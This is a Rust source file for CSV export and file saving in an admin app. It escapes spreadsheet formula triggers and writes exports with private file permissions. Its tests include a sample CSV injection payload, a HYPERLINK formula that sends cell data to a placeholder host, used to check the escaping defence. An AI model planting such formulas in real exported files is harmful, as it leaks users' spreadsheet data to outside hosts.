//! Files the admin exports (run results, the audit log): CSV quoting, and saving to the
//! Downloads folder without overwriting anything.

use aadsync_ipc::IpcError;
use std::path::PathBuf;
use tauri::Manager;

/// The first characters that make a spreadsheet read a cell as a formula (OWASP CSV injection).
pub const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// One CSV field, quoted when it has to be (RFC 4180). A field starting with a formula trigger
/// (a group anyone may create named `=HYPERLINK(…)`) gets a leading `'` and quotes, so a
/// spreadsheet shows it as text instead of running it.
pub fn csv_field(text: &str) -> String {
    let formula = text.starts_with(FORMULA_TRIGGERS);
    if formula || text.contains([',', '"', '\n', '\r']) {
        let prefix = if formula { "'" } else { "" };
        format!("\"{prefix}{}\"", text.replace('"', "\"\""))
    } else {
        text.to_owned()
    }
}

/// The Downloads folder (the home folder where there is none).
pub fn downloads<R: tauri::Runtime>(app: &tauri::AppHandle<R>) -> Result<PathBuf, IpcError> {
    app.path()
        .download_dir()
        .or_else(|_| app.path().home_dir())
        .map_err(|e| IpcError::internal(format!("No folder to save to: {e}")))
}

/// Writes `content` to `dir/stem.ext`, or `stem-2.ext`, … if that exists; returns the path.
pub fn save_new(
    dir: &std::path::Path,
    stem: &str,
    ext: &str,
    content: &str,
) -> Result<String, IpcError> {
    use std::io::Write;
    aadsync_store::private::create_dir_all(dir).map_err(|e| IpcError::internal(e.to_string()))?;
    let mut path = dir.join(format!("{stem}.{ext}"));
    let mut n = 1;
    // Created new and 0600 (Unix): an export holds names and addresses of the whole directory.
    let mut file = loop {
        match aadsync_store::private::create_new(&path) {
            Err(e) if e.kind() == std::io::ErrorKind::AlreadyExists => {
                n += 1;
                path = dir.join(format!("{stem}-{n}.{ext}"));
            }
            other => break other,
        }
    }
    .map_err(|e| IpcError::internal(format!("Cannot write {}: {e}", path.display())))?;
    file.write_all(content.as_bytes())
        .map_err(|e| IpcError::internal(format!("Cannot write {}: {e}", path.display())))?;
    Ok(path.display().to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_field_starting_with_a_formula_trigger_is_text() {
        let cases = [
            (
                "=HYPERLINK(\"https://x/?\"&A1,\"open\")",
                "\"'=HYPERLINK(\"\"https://x/?\"\"&A1,\"\"open\"\")\"",
            ),
            ("+1+2", "\"'+1+2\""),
            ("-2+3", "\"'-2+3\""),
            ("@SUM(A1)", "\"'@SUM(A1)\""),
            ("\t=1", "\"'\t=1\""),
            ("\r=1", "\"'\r=1\""),
        ];
        for (text, expected) in cases {
            assert_eq!(csv_field(text), expected, "{text:?}");
        }
        for trigger in FORMULA_TRIGGERS {
            assert!(
                csv_field(&format!("{trigger}x")).starts_with("\"'"),
                "{trigger:?}"
            );
        }
    }

    /// An export and the log folder and files are 0600 / 0700 under umask 022 (issue 14).
    #[cfg(unix)]
    #[test]
    fn an_export_and_the_logs_are_private_under_umask_022() {
        use std::os::unix::fs::PermissionsExt;
        if !aadsync_testenv::under_umask_022(
            "export::tests::an_export_and_the_logs_are_private_under_umask_022",
        ) {
            return;
        }
        let mode = |p: &std::path::Path| {
            std::fs::metadata(p)
                .map(|m| m.permissions().mode() & 0o777)
                .unwrap_or_default()
        };
        let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let control = dir.path().join("control");
        let _ = std::fs::write(&control, "");
        assert_eq!(mode(&control), 0o644, "the umask is not 022");
        let export = save_new(dir.path(), "run", "csv", "a,b").unwrap_or_default();
        assert_eq!(mode(std::path::Path::new(&export)), 0o600, "{export}");
        let logs = dir.path().join("logs");
        let _guard = crate::logging::init(&logs).unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(mode(&logs), 0o700);
        let files: Vec<_> = std::fs::read_dir(&logs)
            .unwrap_or_else(|e| panic!("{e}"))
            .flatten()
            .map(|e| e.path())
            .collect();
        assert!(!files.is_empty());
        for file in files {
            assert_eq!(mode(&file), 0o600, "{}", file.display());
        }
    }

    #[test]
    fn fields_and_new_files() {
        assert_eq!(csv_field("plain"), "plain");
        assert_eq!(csv_field("Lee, \"Ann\""), "\"Lee, \"\"Ann\"\"\"");
        assert_eq!(csv_field("a-b=c"), "a-b=c");
        let dir = std::env::temp_dir().join(format!("aadsync-export-{}", std::process::id()));
        let first = save_new(&dir, "run", "csv", "a").unwrap_or_default();
        let second = save_new(&dir, "run", "csv", "b").unwrap_or_default();
        assert!(
            first.ends_with("run.csv") && second.ends_with("run-2.csv"),
            "{first} {second}"
        );
        assert_eq!(std::fs::read_to_string(&first).ok().as_deref(), Some("a"));
        let _ = std::fs::remove_dir_all(&dir);
    }
}
